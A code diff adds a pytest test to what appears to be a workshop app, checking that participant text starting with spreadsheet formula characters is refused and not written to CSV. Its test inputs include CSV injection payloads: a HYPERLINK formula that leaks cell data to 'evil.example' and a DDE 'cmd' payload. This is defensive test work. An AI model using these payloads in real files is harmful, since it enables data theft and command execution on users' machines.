@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import re
 from pathlib import Path
 
@@ -78,6 +79,40 @@ def test_participant_messages_for_refusals(luggage: Path) -> None:
     assert "must not be blank" in room.pain_msg.value
     room._act(room.add_idea_button, room.idea_msg, room.add_idea)
     assert "must not be blank" in room.idea_msg.value
+
+
+@pytest.mark.parametrize("field, text, lead", [
+    ("description", '=HYPERLINK("https://evil.example/?"&A1,"click")', "="),
+    ("description", "-2+3+cmd|' /C calc'!A0", "-"),
+    ("idea_title", "@SUM(1+1)", "@"),
+    ("idea_title", "+31 20 555 0100 called", "+"),
+    ("idea_description", "\t=1+1", "\t"),
+])
+def test_participant_formula_text_is_refused_and_nothing_is_written(luggage: Path, field: str,
+                                                                    text: str, lead: str) -> None:
+    """Participants are not trusted as the facilitator is: text that a spreadsheet opening the
+    CSV would run is refused with a message saying why, and the form keeps it for editing."""
+    room = ParticipantRoom(luggage)
+    room.stage.value = "purchase"
+    room.touchpoint.value = "checkout"
+    room.description.value = "Checkout is slow"
+    room.idea_title.value = "Faster checkout"
+    getattr(room, field).value = text
+    before = {p.name: p.read_bytes() for p in luggage.glob("*.csv")}
+    if field == "description":
+        button, msg, act = room.add_pain_button, room.pain_msg, room.add_pain_point
+    else:
+        button, msg, act = room.add_idea_button, room.idea_msg, room.add_idea
+    room._act(button, msg, act)
+    assert "jt-msg-error" in msg.value, msg.value
+    assert f"cannot start with {lead!r}" in html.unescape(msg.value), msg.value
+    assert "a spreadsheet would run it as a formula" in msg.value
+    assert {p.name: p.read_bytes() for p in luggage.glob("*.csv")} == before
+    assert getattr(room, field).value == text  # kept in the form, to be reworded
+    getattr(room, field).value = "Ten seconds per page: " + text  # starting with a word is fine
+    room._act(button, msg, act)
+    assert "jt-msg-ok" in msg.value, msg.value
+    assert jt.validate(luggage).ok
 
 
 def test_participant_text_is_escaped(luggage: Path) -> None:
